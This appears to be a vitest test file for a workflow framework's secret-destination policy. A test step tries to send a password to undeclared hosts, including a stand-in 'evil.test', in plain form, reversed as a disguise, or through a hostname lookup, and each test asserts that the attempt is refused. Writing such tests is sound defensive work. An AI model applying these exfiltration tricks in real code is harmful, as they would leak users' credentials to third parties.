import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { defineStep, describeFields, field, Sensitive } from '../../src/steps/index.ts'
import { type StepOutcome, testStep } from '../../src/steps/testing/index.ts'
import { type EchoServer, startEchoServer } from '../support/echo-server.ts'

const password = 'the-secret-value-0123456789-0123456789'
const key = 'another-secret-value-9876543210-9876543210'

let echo: EchoServer
let port: number
beforeAll(async () => {
  echo = await startEchoServer()
  port = Number(new URL(echo.url).port)
})
afterAll(() => echo.close())
beforeEach(() => {
  echo.received.length = 0
})

/** Signs in at one host and sends a message to another. */
const twoHosts = defineStep({
  type: 'two-hosts',
  title: 'Two hosts',
  description: 'Signs in at one host and sends to another.',
  fields: {
    auth: field.url({ label: 'Sign-in', required: true }),
    api: field.url({ label: 'API', required: true }),
    password: field.text({ label: 'Password', secrets: true, required: true }),
    key: field.text({ label: 'Key', secrets: true }),
    note: field.text({ label: 'Note', default: '' }),
    send: field.choice({
      label: 'Send',
      options: ['nothing', 'it', 'disguised', 'by name'],
      default: 'nothing',
    }),
    uses: field.json({ label: 'Uses', default: ['key'] }),
    to: field.url({ label: 'To' }),
  },
  output: {},
  destinations: {
    password: [{ field: 'auth' }],
    key: [{ field: 'api' }],
    api: [{ field: 'api' }],
  },
  async run(input, { http, lookup }) {
    const { auth, api, to = api, send } = input
    const uses = input.uses as string[]
    await http(auth, { headers: { authorization: input.password }, uses: ['password'] })
    const text = input.password.reveal()
    const body = { nothing: '', it: text, disguised: [...text].reverse().join(''), 'by name': '' }[send]
    const headers = input.key ? { 'x-key': input.key } : {}
    const url = new URL(to)
    if (send === 'by name') await lookup(url.hostname, Number(url.port), { uses })
    else await http(to, { method: 'POST', body: new Sensitive(`${body} ${input.note}`), headers, uses })
    return {}
  },
})

function run(
  fields: object,
  policies: Record<string, string[]> = { PASSWORD: ['auth.test'] },
): Promise<StepOutcome> {
  const [auth, api] = ['auth', 'api'].map((name) => `http://${name}.test:${port}/`)
  return testStep(twoHosts, {
    fields: { auth, api, password: '{{ secrets.PASSWORD }}', ...fields },
    secrets: { PASSWORD: password, KEY: key },
    allowedHosts: policies,
    hosts: { 'auth.test': '127.0.0.1', 'api.test': '127.0.0.1', 'evil.test': '127.0.0.1' },
    steps: { before: { echo: password } },
  })
}

const refused = (message: RegExp) => ({
  code: 'DESTINATION_NOT_ALLOWED',
  message: expect.stringMatching(message),
})
const hosts = () => echo.received.map(({ headers }) => String(headers['host']).split(':')[0])

test('a secret that is bound to one host may be used by a step that also calls another one', async () => {
  expect(await run({})).toMatchObject({ status: 'SUCCEEDED' })
  expect(hosts()).toEqual(['auth.test', 'api.test'])
  expect(await run({ send: 'by name' })).toMatchObject({ status: 'SUCCEEDED' })
})

test('each of two secrets goes to its own host', async () => {
  const bound = { PASSWORD: ['auth.test'], KEY: ['api.test'] }
  expect(await run({ key: '{{ secrets.KEY }}' }, bound)).toMatchObject({ status: 'SUCCEEDED' })
  expect(echo.received[1]?.headers).toMatchObject({ 'x-key': key })
  expect((await run({ key: '{{ secrets.KEY }}' }, { ...bound, KEY: ['auth.test'] })).error).toMatchObject(
    refused(/secret KEY may not go to api\.test:\d+|KEY may not go to http:\/\/api\.test:\d+/),
  )
})

test('what is found in a request counts, whatever it is said to use', async () => {
  const { error } = await run({ send: 'it' })
  expect(error).toMatchObject(refused(/PASSWORD may not go to http:\/\/api\.test:\d+/))
  // It came by way of an earlier output, into a field that goes anywhere.
  const note = '{{ steps.before.output.echo }}'
  expect((await run({ note })).error).toMatchObject(refused(/PASSWORD/))
  expect(hosts()).not.toContain('api.test')
})

test('a secret counts at a host that is declared for its field, however few fields a request names', async () => {
  const on = (path: string) => `http://auth.test:${port}${path}`
  const fields = { auth: on('/sign-in'), api: `http://api.test:${port}/`, password: '{{ secrets.PASSWORD }}' }
  const disguised = { to: on('/other'), send: 'disguised', uses: [] }
  const { error } = await testStep(twoHosts, {
    fields: { ...fields, ...disguised },
    secrets: { PASSWORD: password },
    policies: { PASSWORD: { hosts: [on('')], paths: ['/sign-in'] } },
    hosts: { 'auth.test': '127.0.0.1', 'api.test': '127.0.0.1' },
  })
  expect(error).toMatchObject(refused(/PASSWORD/))
  expect(echo.received).toHaveLength(1)
})

interface Case {
  to?: string
  send?: string
  uses: string[]
}

test.each<[string, Case, RegExp]>([
  [
    'names the field of a secret that may not go there',
    { uses: ['password'] },
    /field password to api\.test:\d+/,
  ],
  [
    'does not say what it uses at a host that is declared for the secret',
    { to: 'auth', send: 'it', uses: ['key'] },
    /field key to auth/,
  ],
  [
    'goes to a host that it does not declare',
    { to: 'evil', send: 'disguised', uses: [] },
    /PASSWORD may not go to http:\/\/evil\.test/,
  ],
  [
    'opens a connection to a host that it does not declare',
    { to: 'evil', send: 'by name', uses: [] },
    /PASSWORD may not go to evil\.test:\d+/,
  ],
])('a request is refused that %s', async (_what, { to, ...fields }, message) => {
  const { error } = await run({ ...fields, ...(to && { to: `http://${to}.test:${port}/` }) })
  expect(error).toMatchObject(refused(message))
})

test('a declaration gives a secret no host that its policy does not have', async () => {
  const auth = `http://evil.test:${port}/`
  expect((await run({ auth })).error).toMatchObject(refused(/PASSWORD may not go to http:\/\/evil\.test:\d+/))
  expect(echo.received).toEqual([])
})

test('a secret in two fields goes where both of them go', async () => {
  const { error } = await run({ key: '{{ secrets.PASSWORD }}' })
  expect(error).toMatchObject(refused(/PASSWORD may not go to http:\/\/api\.test/))
  expect(echo.received).toEqual([])
})

test('without `uses` every secret of the step counts', async () => {
  const careless = { ...twoHosts, run: twoHosts.run }
  const plain = defineStep({
    ...careless,
    fields: {
      api: field.url({ label: 'API', required: true }),
      password: field.text({ label: 'P', secrets: true }),
    },
    destinations: { password: [], api: [{ field: 'api' }] },
    run: async ({ api }, { http }) => void (await http(api)),
  })
  const { error } = await testStep(plain, {
    fields: { api: `http://api.test:${port}/`, password: '{{ secrets.PASSWORD }}' },
    secrets: { PASSWORD: password },
    allowedHosts: { PASSWORD: ['auth.test'] },
    hosts: { 'api.test': '127.0.0.1' },
  })
  expect(error).toMatchObject(refused(/PASSWORD/))
})

test('what is declared is described for admins', () => {
  const described = describeFields(twoHosts).map(({ name, destinations }) => [name, destinations])
  expect(Object.fromEntries(described)).toMatchObject({
    password: { hosts: [], fields: ['auth'], computed: false },
    note: null,
  })
})
